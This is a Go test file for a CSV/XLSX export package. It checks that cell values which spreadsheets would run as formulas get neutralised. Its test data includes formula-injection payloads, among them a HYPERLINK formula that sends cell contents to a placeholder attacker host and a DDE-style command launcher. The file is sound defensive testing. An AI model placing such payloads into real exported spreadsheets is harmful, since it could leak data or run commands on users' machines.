package tabular

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// hostile are cell values a spreadsheet would run as formulas, or that test the edges of
// the rule.
var hostile = []string{
	`=HYPERLINK("http://evil.example/"&A1,"x")`, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "'plain",
}

func TestText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"CT-01", "CT-01"},
		{"a=b", "a=b"},
		{"10.0.0.1", "10.0.0.1"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{" =1", "' =1"},
		{"\u3000＝1", "'\u3000＝1"},
		{"'quoted", "''quoted"},
		{"   ", "   "},
		{"本院", "本院"},
	}
	for _, tt := range tests {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := Untext(Text(tt.in)); got != tt.in {
			t.Errorf("Untext(Text(%q)) = %q", tt.in, got)
		}
	}
	for _, v := range []string{"'abc", "''", "-", "plain"} {
		if got := Untext(v); got != v && !(v == "''" && got == "'") {
			t.Errorf("Untext(%q) = %q, want it unchanged", v, got)
		}
	}
}

// formulaLike reports whether a spreadsheet would take cell as a formula.
func formulaLike(cell string) bool {
	return NeedsQuote(cell) && !strings.HasPrefix(cell, "'")
}

func TestCSVWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf)
	w.Write("name", "note")
	for _, h := range hostile {
		w.Write(h, "x")
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFF")) {
		t.Error("no byte-order mark")
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := len(recs), len(hostile)+1; got != want {
		t.Fatalf("rows = %d, want %d", got, want)
	}
	for i, h := range hostile {
		got := recs[i+1][0]
		if formulaLike(got) {
			t.Errorf("row %d: cell %q can run as a formula", i+2, got)
		}
		// encoding/csv drops a lone carriage return when it writes CRLF line ends.
		if want := strings.ReplaceAll(h, "\r", ""); Untext(got) != want && Untext(got) != h {
			t.Errorf("row %d: Untext(%q) = %q, want %q", i+2, got, Untext(got), want)
		}
	}
}

func TestXLSXWriter(t *testing.T) {
	x := NewXLSX()
	if err := x.Sheet(Sheet{Name: "Summary", Header: []string{"=head", "n"}, Widths: []float64{20}}); err != nil {
		t.Fatal(err)
	}
	x.Row("total", 3)
	if err := x.Sheet(Sheet{Name: "Items", Header: []string{"value", "date", "n"}, DropLists: map[int][]string{2: {"1", "2"}}}); err != nil {
		t.Fatal(err)
	}
	day := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	for _, h := range hostile {
		if err := x.Row(h, day, int64(-5)); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := x.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); strings.Join(got, ",") != "Summary,Items" {
		t.Errorf("sheets = %v", got)
	}
	// Every text cell holds its text exactly — no apostrophe shown — as a string cell (a
	// spreadsheet never evaluates one) under the text format "@", so that editing it in a
	// spreadsheet keeps it text.
	textCell(t, f, "Summary", "A1", "=head")
	textCell(t, f, "Summary", "A2", "total")
	for i, h := range hostile {
		row := i + 2
		cell, _ := excelize.CoordinatesToCellName(1, row)
		textCell(t, f, "Items", cell, h)
		n, _ := f.GetCellValue("Items", "C"+strings.TrimPrefix(cell, "A"), excelize.Options{RawCellValue: true})
		if n != "-5" {
			t.Errorf("row %d: number cell = %q, want -5 untouched", row, n)
		}
		if typ, _ := f.GetCellType("Items", "C"+strings.TrimPrefix(cell, "A")); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
			t.Errorf("row %d: the number -5 was written as text", row)
		}
	}
	if props, err := f.GetDocProps(); err != nil || props.Keywords != XLSXExactText {
		t.Errorf("keywords = %+v, %v; want %q for readers", props, err, XLSXExactText)
	}
	if _, err := NewXLSX().WriteTo(&buf); err == nil {
		t.Error("a workbook without a sheet was written")
	}
}

// textCell checks that a workbook's cell holds want exactly, as a string cell without a
// formula, under the text number format "@".
func textCell(t *testing.T, f *excelize.File, sheet, cell, want string) {
	t.Helper()
	got, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil || got != want {
		t.Errorf("%s!%s = %q, %v; want exactly %q", sheet, cell, got, err, want)
	}
	if typ, err := f.GetCellType(sheet, cell); err != nil || typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
		t.Errorf("%s!%s: cell type %v, %v; want a string cell", sheet, cell, typ, err)
	}
	if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
		t.Errorf("%s!%s holds formula %q", sheet, cell, formula)
	}
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatalf("%s!%s style: %v", sheet, cell, err)
	}
	st, err := f.GetStyle(id)
	if err != nil || st.NumFmt != 49 || st.CustomNumFmt != nil && *st.CustomNumFmt != "@" {
		t.Errorf("%s!%s: number format %+v, %v; want built-in 49, \"@\"", sheet, cell, st, err)
	}
}

// TestXLSXShape checks what spreadsheet users rely on beyond the values: each sheet's
// <dimension> is its used range, a sheet with a header has an autofilter over that range
// and its header row frozen, and a sheet written without widths gets them from its cells,
// a CJK character counting two.
func TestXLSXShape(t *testing.T) {
	x := NewXLSX()
	x.Sheet(Sheet{Name: "Items", Header: []string{"名稱", "n", "day"}})
	day := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	x.Row("導程心電圖機 ECG-1", 12, day)
	x.Row("CT", 3.5, day)
	x.Sheet(Sheet{Name: "Fixed", Widths: []float64{30}})
	x.Row("a", "b")
	var buf bytes.Buffer
	if _, err := x.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	sheet := func(name string) string {
		for _, f := range zr.File {
			if f.Name == name {
				rc, _ := f.Open()
				b, _ := io.ReadAll(rc)
				rc.Close()
				return string(b)
			}
		}
		t.Fatalf("no %s", name)
		return ""
	}
	items, fixed := sheet("xl/worksheets/sheet1.xml"), sheet("xl/worksheets/sheet2.xml")
	for _, want := range []string{`<dimension ref="A1:C3"/>`, `<autoFilter ref="A1:C3"/>`, `state="frozen"`,
		`<col min="1" max="1" width="20.0" customWidth="1"/>`, `<col min="3" max="3" width="12.0" customWidth="1"/>`} {
		if !strings.Contains(items, want) {
			t.Errorf("sheet with a header lacks %s", want)
		}
	}
	if !strings.Contains(fixed, `<dimension ref="A1:B1"/>`) || strings.Contains(fixed, "<autoFilter") || strings.Count(fixed, "<col ") != 1 {
		t.Errorf("sheet without a header, with a width: %s", fixed[strings.Index(fixed, "<dimension"):])
	}
	f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if v, _ := f.GetCellValue("Items", "B2", excelize.Options{RawCellValue: true}); v != "12" {
		t.Errorf("B2 = %q, want the number 12", v)
	}
	if typ, _ := f.GetCellType("Items", "B3"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
		t.Errorf("B3 is text")
	}
}
